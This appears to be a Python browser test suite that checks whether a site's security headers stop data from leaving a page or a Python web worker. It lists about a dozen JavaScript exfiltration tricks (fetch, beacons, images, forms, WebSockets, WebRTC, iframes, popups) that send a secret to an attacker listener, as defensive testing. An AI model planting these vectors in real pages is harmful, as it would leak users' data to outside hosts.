"""Nothing leaves the page: every way out is tried, with an attacker listening on another port.

The same attempts against the same site served without its headers do arrive, so this test can fail.
"""

from __future__ import annotations

from collections.abc import Iterator
from pathlib import Path

import pytest
from playwright.sync_api import Browser, Error, Page
from tests.browser.attacker import Attacker
from tests.browser.visiting import READY, open_harness

from wardian_build import serve

#: JavaScript that tries to tell {url} a secret. {udp} is the attacker's UDP port.
PAGE_VECTORS = {
    "fetch": "fetch('{url}/fetch?secret', {{ mode: 'no-cors' }})",
    "beacon": "navigator.sendBeacon('{url}/beacon', 'secret')",
    "image": "new Image().src = '{url}/image?secret'",
    "form": """(() => {{ const form = document.createElement('form'); form.action = '{url}/form';
                 form.method = 'post'; document.body.append(form); form.submit(); }})()""",
    "navigation": "location.href = '{url}/navigation?secret'",
    "websocket": "new WebSocket('{url}/socket?secret'.replace('http', 'ws'))",
    "webrtc": """(async () => {{
        const peer = new RTCPeerConnection({{ iceServers: [{{ urls: 'stun:127.0.0.1:{udp}' }}] }});
        peer.createDataChannel('x'); await peer.setLocalDescription(await peer.createOffer()); }})()""",
    "preconnect": """(() => {{ const link = document.createElement('link'); link.rel = 'preconnect';
                 link.href = '{url}'; document.head.append(link); }})()""",
    "script": """(() => {{ const script = document.createElement('script');
                 script.src = '{url}/script?secret'; document.head.append(script); }})()""",
    "frame": """(() => {{ const frame = document.createElement('iframe'); frame.src = '{url}/frame?secret';
                 document.body.append(frame); }})()""",
    "popup": "window.open('{url}/popup?secret')",
}

#: WebRTC sends nothing from some sandboxes even when allowed; preconnect is a hint that a browser may ignore.
UNCERTAIN_WITHOUT_POLICY = {"webrtc", "preconnect"}


@pytest.fixture
def attacker() -> Iterator[Attacker]:
    listener = Attacker()
    yield listener
    listener.close()


@pytest.fixture(scope="module")
def bare_url(site: Path) -> Iterator[str]:
    server, url = serve.start(site, port=0, headers="none")
    yield url
    server.shutdown()


def attempt(browser: Browser, url: str, vector: str, attacker: Attacker) -> list[str]:
    context = browser.new_context()
    try:
        page = context.new_page()
        page.goto(url, timeout=READY)
        page.wait_for_selector("article.task", timeout=READY)
        attacker.received(wait=0)
        try_script(page, PAGE_VECTORS[vector].format(url=attacker.url, udp=attacker.udp_port))
        return attacker.received(wait=2.0)
    finally:
        context.close()


def try_script(page: Page, script: str) -> None:
    try:
        page.evaluate(f"void ({script})")
    except Error:
        # Refused outright (a removed interface, a navigation that ended the page): also no leak.
        page.wait_for_timeout(100)


@pytest.mark.parametrize("vector", PAGE_VECTORS)
def test_nothing_leaves_the_page(browser: Browser, site_url: str, attacker: Attacker, vector: str) -> None:
    assert attempt(browser, site_url, vector, attacker) == []


@pytest.mark.parametrize("vector", [name for name in PAGE_VECTORS if name not in UNCERTAIN_WITHOUT_POLICY])
def test_the_same_attempt_succeeds_without_the_headers(
    browser: Browser, bare_url: str, attacker: Attacker, vector: str
) -> None:
    assert attempt(browser, bare_url, vector, attacker) != []


PYTHON_FETCH = """
from js import fetch
try:
    await fetch("{url}/worker?secret", mode="no-cors")
    outcome = "sent"
except Exception as error:
    outcome = "refused"
outcome
"""


def test_python_in_the_worker_cannot_fetch_elsewhere(
    browser: Browser, harness_url: str, attacker: Attacker
) -> None:
    context = browser.new_context()
    harness = open_harness(context, harness_url)
    outcome = harness.run(PYTHON_FETCH.format(url=attacker.url))
    context.close()
    assert outcome == "refused"
    assert attacker.received() == []


def test_python_in_the_worker_can_without_the_headers(
    browser: Browser, harness_site: Path, attacker: Attacker
) -> None:
    server, url = serve.start(harness_site, port=0, headers="none")
    context = browser.new_context()
    harness = open_harness(context, url)
    outcome = harness.run(PYTHON_FETCH.format(url=attacker.url))
    context.close()
    server.shutdown()
    assert outcome == "sent"
    assert attacker.received() != []
